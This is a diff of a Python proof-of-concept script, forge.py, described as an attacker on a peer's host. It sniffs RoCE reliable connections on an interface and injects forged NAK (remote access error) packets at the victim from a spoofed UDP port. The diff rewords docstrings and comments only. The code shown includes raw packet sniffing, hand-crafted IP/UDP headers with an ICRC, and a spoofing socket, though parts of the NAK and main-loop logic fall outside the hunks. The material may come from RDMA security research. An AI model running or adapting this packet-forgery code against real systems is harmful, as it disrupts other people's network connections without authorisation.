@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: BSD-2-Clause
-"""Another program of the peer's host: sees an RC connection pass on an interface and sends the victim NAKs for what is outstanding,
-from a UDP port of its own.
+"""Attacker on the peer's host: sniffs an RC connection on an interface and sends the victim NAKs for its
+outstanding packets, from another UDP port.
 usage: forge.py INTERFACE VICTIM PEER PORT SECONDS     prints how many were sent
-SECONDS: from the first NAK on; it waits for a connection for a minute."""
+SECONDS: counted from the first NAK; waits up to a minute for a connection."""
 
 import socket
 import struct
@@ -17,7 +17,7 @@ NAK_REMOTE_ACCESS = 0x62
 
 
 def packet(victim, peer, port, headers):
-    """UDP payload with these headers behind UDP's; the kernel writes the headers that the ICRC counts as it finds them here."""
+    """Returns a UDP payload: `headers` and the ICRC over the IP and UDP headers that the kernel will write."""
     length = 8 + len(headers) + 4
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(peer), socket.inet_aton(victim))
     udp = struct.pack(">HHHH", port, ROCE_PORT, length, 0xFFFF)
@@ -26,7 +26,7 @@ def packet(victim, peer, port, headers):
 
 
 def bound(peer, port):
-    """A socket whose headers are those that packet() counts."""
+    """Returns a socket with which the kernel writes the IP and UDP headers that packet() assumes."""
     sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
     sender.bind((peer, port))
@@ -40,7 +40,7 @@ def nak(victim, peer, port, qpn, psn):
 
 def main():
     interface, victim, peer, port, seconds = sys.argv[1:4] + [int(sys.argv[4]), float(sys.argv[5])]
-    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: what the peer's host sends, too
+    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: outgoing frames, too
     sniffer.bind((interface, 3))
     sniffer.settimeout(0.2)
     sender = bound(peer, port)
